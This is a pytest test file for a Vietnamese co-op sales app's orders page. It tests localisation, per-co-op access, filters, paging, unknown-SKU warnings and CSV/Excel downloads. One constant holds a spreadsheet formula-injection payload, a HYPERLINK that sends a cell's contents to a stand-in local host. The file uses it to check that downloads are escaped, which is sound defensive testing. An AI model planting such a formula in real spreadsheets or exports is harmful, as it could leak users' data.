"""The Đơn hàng page in the app: a clerk's own orders in Vietnamese, an officer's every co-op, filters, search,
unknown SKUs flagged, and downloads a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from syndicator.channels import display_name
from tests.support.apptest import logged_in, open_page, shown_text
from tests.support.ui import VO_NHAI, seed_two_coops
from tests.test_access_orders import TEA_SHOPEE, order, seed_tea_orders, store

FORMULA_SKU = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"CHE")'
INTERNAL_CODES = ("open", "completed", "cancelled", "returned", "shopee", "voso", "None", "sale", "nan", "<NA>")


@pytest.fixture
def seeded(engine, database_url, monkeypatch):
    seed_two_coops(engine)
    seed_tea_orders(engine)
    monkeypatch.setenv("SYNDICATOR_DATABASE_URL", database_url)
    return engine


def orders_page(username: str = "tancuong", lang: str = "vi"):
    return open_page(logged_in(username, lang=lang), "orders")


def table(app) -> list[dict]:
    [frame] = app.dataframe
    return frame.value.to_dict("records")


def filtered(app, **widgets):
    """The page after setting filters: a selectbox or date input by its key's tail, a search or a checkbox."""
    for key, value in widgets.items():
        kind = {"query": "text_input", "unknown_only": "checkbox", "since": "date_input", "until": "date_input"}.get(
            key, "selectbox")
        widget = getattr(app, kind)(key=f"orders_{key}")
        (widget.input(value) if kind == "text_input" else widget.check() if kind == "checkbox" else
         widget.set_value(value))
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def test_a_clerk_sees_their_orders_with_status_in_words_and_prices_in_dong(seeded):
    rows = table(orders_page())
    first = rows[0]
    assert (first["Sàn"], first["Mã đơn"], first["Trạng thái"], first["SKU"], first["Quy cách"]) == (
        "Shopee", "SP-240001", "Đang xử lý", "CHE-DB-200", "Gói 200g")
    assert {row["Trạng thái"] for row in rows} == {"Đang xử lý", "Hoàn thành", "Đã hủy", "Trả hàng"}
    assert "240.000 ₫" in shown_text(orders_page())


def test_the_time_is_shown_in_vietnam_time(seeded):
    rows = table(filtered(orders_page(), query="VS-241120"))
    assert rows[0]["Thời gian đặt"] == "20/11/2026 00:30"


def test_the_page_shows_no_internal_code(seeded):
    text = shown_text(orders_page())
    assert not [code for code in INTERNAL_CODES if re.search(rf"\b{re.escape(code)}\b", text)], text


def test_a_clerk_never_sees_another_coops_orders_nor_a_coop_choice(seeded):
    app = orders_page()
    assert "SP-240002" not in shown_text(app)
    assert "orders_coop" not in [box.key for box in app.selectbox]


@pytest.mark.parametrize("username", ["canbo", "quantri"])
def test_an_officer_or_admin_sees_every_coop_and_filters_by_one(seeded, username):
    app = orders_page(username)
    assert {"HTX Chè Tân Cương", "HTX Mật ong Võ Nhai"} <= {row["HTX"] for row in table(app)}
    rows = table(filtered(app, coop=VO_NHAI))
    assert [row["Mã đơn"] for row in rows] == ["SP-240002"]


def test_an_officer_is_offered_nothing_to_change(seeded):
    app = orders_page("canbo")
    assert {b.label for b in app.main.button} <= {"Chuẩn bị tệp tải về"}


def test_a_cancelled_order_shows_the_stock_it_took_and_gave_back(seeded):
    [row] = table(filtered(orders_page(), status="cancelled"))
    assert (row["Mã đơn"], row["Biến động kho"]) == ("SP-241101", "Xuất bán -1, Nhập lại do hủy +1")


def test_the_marketplace_filter_keeps_one_marketplace(seeded):
    rows = table(filtered(orders_page(), marketplace="voso"))
    assert {row["Sàn"] for row in rows} == {display_name("voso")}


def test_a_search_by_sku_finds_its_orders(seeded):
    rows = table(filtered(orders_page(), query="CHE-NT"))
    assert [row["Mã đơn"] for row in rows] == ["SP-241101"]


def test_a_date_range_keeps_the_days_between(seeded):
    rows = table(filtered(orders_page(), since=date(2026, 11, 20), until=date(2026, 11, 20)))
    assert [row["Mã đơn"] for row in rows] == ["VS-241120"]


def test_a_start_date_after_the_end_date_is_explained_in_vietnamese(seeded):
    app = filtered(orders_page(), since=date(2026, 11, 21), until=date(2026, 11, 20))
    shown = [e.value.replace("\\", "") for e in app.error]  # as Markdown shows it, without plain()'s escapes
    assert shown == ["Từ ngày (21/11/2026) phải trước hoặc trùng Đến ngày (20/11/2026)"]
    assert not app.dataframe


def test_a_line_with_an_unknown_sku_is_flagged_and_counted(seeded):
    app = orders_page()
    [warning] = app.warning
    assert warning.value.startswith("Có 1 dòng đơn mang SKU không thuộc HTX: các dòng này không trừ kho.")
    flagged = [row for row in table(app) if row["SKU không rõ"]]
    assert [(row["SKU"], row["SKU không rõ"], row["Biến động kho"]) for row in flagged] == [
        ("CHE-DB-500", "Có", "không trừ kho")]


def test_only_the_orders_with_an_unknown_sku_can_be_shown(seeded):
    rows = table(filtered(orders_page(), unknown_only=True))
    assert {row["Mã đơn"] for row in rows} == {"SP-241128"}


def test_many_orders_come_a_page_at_a_time(seeded):
    store(seeded, TEA_SHOPEE, *(order(f"SP-25{n:04d}", "completed", datetime(2026, 10, 1, n % 24, tzinfo=UTC),
                                      ("CHE-DB-200", 1, 120000)) for n in range(60)))
    app = orders_page()
    assert len({row["Mã đơn"] for row in table(app)}) == 50
    assert "Trang 1/2 · 65 dòng" in shown_text(app)
    app.number_input(key="orders_page").set_value(2)
    app.run()
    assert len({row["Mã đơn"] for row in table(app)}) == 15


def test_english_can_be_chosen(seeded):
    rows = table(orders_page(lang="en"))
    assert {row["Status"] for row in rows} == {"Open", "Completed", "Cancelled", "Returned"}


@pytest.fixture
def formula_order(seeded):
    """A seller typed a formula as the SKU of an item in their seller centre; it was ordered."""
    store(seeded, TEA_SHOPEE, order("SP-241130", "open", datetime(2026, 11, 30, 2, tzinfo=UTC),
                                    (FORMULA_SKU, 1, 99000)))
    return seeded


def prepared_download(username: str = "tancuong"):
    app = orders_page(username)
    app.button(key="orders_prepare_download").click()
    app.run()
    return app


def test_the_csv_download_starts_a_formula_cell_with_a_quote(formula_order, offered):
    content = offered(prepared_download(), "orders-csv").content.decode("utf-8-sig")
    skus = [row["SKU"] for row in csv.DictReader(io.StringIO(content))]
    assert "'" + FORMULA_SKU in skus and FORMULA_SKU not in skus


def test_the_excel_download_holds_the_formula_as_text_and_the_prices_as_numbers(formula_order, offered):
    sheet = load_workbook(io.BytesIO(offered(prepared_download(), "orders-xlsx").content)).active
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("SKU")].value == "'" + FORMULA_SKU)
    assert row[header.index("SKU")].data_type == "s"
    assert row[header.index("Đơn giá")].value == 99000


def test_the_download_holds_every_order_of_the_clerks_coop(seeded, offered):
    download = offered(prepared_download(), "orders-csv")
    assert download.filename == "don-hang-HTX-TANCUONG.csv"
    content = download.content.decode("utf-8-sig")
    order_ids = {row["Mã đơn"] for row in csv.DictReader(io.StringIO(content))}
    assert order_ids == {"SP-240001", "SP-241128", "VS-241120", "SP-241105", "SP-241101"}


def test_the_download_holds_the_filtered_orders_only(seeded, offered):
    app = filtered(orders_page(), status="cancelled")
    app.button(key="orders_prepare_download").click()
    app.run()
    content = offered(app, "orders-csv").content.decode("utf-8-sig")
    assert [(row["Mã đơn"], row["Trạng thái"]) for row in csv.DictReader(io.StringIO(content))] == [
        ("SP-241101", "Đã hủy")]
